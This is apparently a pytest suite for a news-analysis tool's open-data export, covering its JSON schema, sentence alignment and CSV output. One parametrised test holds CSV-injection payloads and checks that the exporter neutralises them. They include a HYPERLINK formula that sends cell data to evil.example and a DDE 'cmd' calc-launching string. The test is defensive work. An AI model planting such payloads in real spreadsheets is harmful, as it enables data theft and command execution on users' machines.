"""The open-data export: schema, the no-loss property, the CSV."""

from __future__ import annotations

import csv
import io
import json
import string
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parallax.analysis.alignment.pairwise import align_pair
from parallax.analysis.analyze import analyze
from parallax.export.story_export import (
    FORMULA_START,
    claims_csv,
    spreadsheet_cell,
    story_document,
    to_json,
)
from parallax.model import Article, ClaimSpec, Outlet, Sentence, Story, StoryAnalysis
from parallax.nlp.samefact import SameFact
from parallax.nlp.semantic import MeaningSpace

ROOT = Path(__file__).resolve().parents[1]


def test_document_has_the_documented_shape(seed_analysis: StoryAnalysis) -> None:
    doc = json.loads(to_json(seed_analysis))
    assert set(doc) >= {"schema_version", "story", "articles", "pairs", "claims"}
    assert doc["story"]["id"] == seed_analysis.story.id
    article = doc["articles"][0]
    assert set(article) >= {"id", "outlet", "title", "date", "url", "sentences", "removed"}
    assert set(article["sentences"][0]) >= {"id", "text"}
    removed = {a["id"]: a["removed"] for a in doc["articles"]}
    assert sum(r["rule"] == "advertisement" for r in removed["unattributed-000"]) == 9
    pair = doc["pairs"][0]
    assert set(pair) >= {"a", "b", "similarity", "rows"}
    assert 0 <= pair["similarity"] <= 1
    assert {row["op"] for p in doc["pairs"] for row in p["rows"]} <= {
        "equal", "replace", "delete", "insert", "move"}
    claim = doc["claims"][0]
    assert set(claim) >= {"id", "text", "curated", "cells"}
    assert set(claim["cells"]) == {a.id for a in seed_analysis.story.articles}
    cell = next(iter(claim["cells"].values()))
    assert set(cell) >= {"stance", "reading", "uncertain", "probability", "evidence", "score"}


def test_every_cell_field_is_documented(seed_analysis: StoryAnalysis) -> None:
    documented = (ROOT / "site_src" / "export-format.md").read_text(encoding="utf-8")
    keys = {k for claim in story_document(seed_analysis)["claims"]
            for cell in claim["cells"].values() for k in cell}
    missing = {k for k in keys if f"`{k}`" not in documented}
    assert not missing, f"undocumented in export-format.md: {sorted(missing)}"


def test_no_sentence_is_lost_or_duplicated(seed_analysis: StoryAnalysis) -> None:
    doc = story_document(seed_analysis)
    sentences = {a["id"]: [s["id"] for s in a["sentences"]] for a in doc["articles"]}
    assert len(doc["pairs"]) == 10
    for pair in doc["pairs"]:
        assert [i for row in pair["rows"] for i in row["a"]] == sentences[pair["a"]]
        assert [j for row in pair["rows"] for j in row["b"]] == sentences[pair["b"]]


def test_evidence_ids_exist(seed_analysis: StoryAnalysis) -> None:
    doc = story_document(seed_analysis)
    sentences = {a["id"]: {s["id"] for s in a["sentences"]} for a in doc["articles"]}
    for claim in doc["claims"]:
        for article_id, cell in claim["cells"].items():
            assert set(cell["evidence"]) <= sentences[article_id]
            # every stance but `omits` rests on a sentence (an omission may point at the
            # sentences that mention the subject without the claim)
            if cell["reading"] != "omits" and not cell["curated"]:
                assert cell["evidence"], (claim["id"], article_id)


def test_csv_has_one_row_per_claim_and_article(seed_analysis: StoryAnalysis) -> None:
    rows = list(csv.DictReader(io.StringIO(claims_csv(seed_analysis))))
    assert len(rows) == len(seed_analysis.claims) * len(seed_analysis.story.articles)
    assert {r["stance"] for r in rows} <= {"asserts", "reports", "disputes", "omits", "uncertain"}
    assert {r["reading"] for r in rows} <= {"asserts", "reports", "disputes", "omits"}


WORDS = st.sampled_from(
    "russia pakistan steel mill karachi reports fake denied talks moscow islamabad joint "
    "working group contract signed official said meeting may april".split()
)
SENTENCE = st.lists(WORDS, min_size=2, max_size=10).map(lambda w: " ".join(w).capitalize() + ".")


def _article(article_id: str, texts: list[str]) -> Article:
    sentences = tuple(Sentence(f"s{i + 1}", t, i) for i, t in enumerate(texts))
    return Article(article_id, "story", Outlet(article_id, article_id), "t", sentences, "x.md")


@pytest.mark.slow
@settings(max_examples=150, deadline=None)
@given(st.lists(SENTENCE, min_size=1, max_size=12), st.lists(SENTENCE, min_size=1, max_size=12),
       st.randoms())
def test_alignment_never_loses_or_duplicates_a_sentence(
    texts_a: list[str], texts_b: list[str], rnd  # type: ignore[no-untyped-def]
) -> None:
    # b often reuses and reorders a's sentences, so moves and merges get exercised
    mixed = texts_b + rnd.sample(texts_a, k=min(len(texts_a), rnd.randint(0, 4)))
    rnd.shuffle(mixed)
    a, b = _article("a", texts_a), _article("b", mixed)
    decide = SameFact(MeaningSpace([*texts_a, *mixed]))
    # Both ways of weighing pairs: every pair (news) and the candidates of long articles.
    for every_pair in (True, False):
        pair = align_pair(a, b, decide, every_pair=every_pair)
        assert [i for row in pair.rows for i in row.a] == [s.id for s in a.sentences]
        assert [j for row in pair.rows for j in row.b] == [s.id for s in b.sentences]
        assert 0.0 <= pair.similarity <= 1.0
        for row in pair.rows:
            if row.op == "move":
                assert bool(row.a) != bool(row.b) and row.counterpart


def test_json_is_deterministic(seed_analysis: StoryAnalysis) -> None:
    assert to_json(seed_analysis) == to_json(seed_analysis)
    assert all(c in string.printable or ord(c) > 127 for c in to_json(seed_analysis))


# ------------------------------------------------------------------ CSV injection (OWASP)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "＝1+1"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cells_never_start_a_formula(payload: str) -> None:
    text = f"{payload} The mill was sold to the buyer in Karachi for 400 million rupees."
    outlet = Outlet("evil", payload)
    first = Article("a", "story", outlet, "t", (Sentence("s1", text, 0),), "a.md")
    second = Article("b", "story", Outlet("plain", "Plain"), "t",
                     (Sentence("s1", "The mill was sold to the buyer in Karachi.", 0),), "b.md")
    story = Story("story", "Story", (first, second),
                  claims=(ClaimSpec("c1", payload), ClaimSpec("c2", text)))
    written = claims_csv(analyze(story))
    rows = list(csv.reader(io.StringIO(written, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_START)]
    # The text is all there, behind one leading quote that spreadsheets do not show.
    assert f"'{payload}" in cells and f"'{text}" in cells
    assert rows[0][0] == "claim_id" and len(rows) == 1 + 2 * 2


def test_ordinary_cells_are_left_alone() -> None:
    assert spreadsheet_cell("Russia denied it") == "Russia denied it"
    assert spreadsheet_cell("0.750") == "0.750"
    assert spreadsheet_cell("s1 s3") == "s1 s3"
    assert spreadsheet_cell("It cost 2-3 million") == "It cost 2-3 million"


def test_word_diffs_in_the_export_rebuild_both_texts(seed_analysis: StoryAnalysis) -> None:
    """Schema 2.2: every replaced or moved row and every shared fact carries the word diff the
    comparison page marks; joining its segments gives back each side's text."""
    document = story_document(seed_analysis)
    text = {(a["id"], s["id"]): s["text"] for a in document["articles"] for s in a["sentences"]}

    def joined(article: str, ids: list[str]) -> str:
        return " ".join(text[(article, i)] for i in ids)

    def rebuilt(diff: dict, side: str) -> str:  # type: ignore[type-arg]
        return "".join(segment[side] for segment in diff["segments"])

    checked = 0
    for pair in document["pairs"]:
        for row in pair["rows"]:
            if row["op"] not in ("replace", "move"):
                assert "diff" not in row
                continue
            a_ids = row["a"] or row["counterpart"]
            b_ids = row["b"] or row["counterpart"]
            assert rebuilt(row["diff"], "a") == joined(pair["a"], a_ids)
            assert rebuilt(row["diff"], "b") == joined(pair["b"], b_ids)
            checked += 1
        for fact in pair["facts"]:
            assert rebuilt(fact["diff"], "a") == joined(pair["a"], fact["a"])
            assert rebuilt(fact["diff"], "b") == joined(pair["b"], fact["b"])
            checked += 1
    assert checked > 20
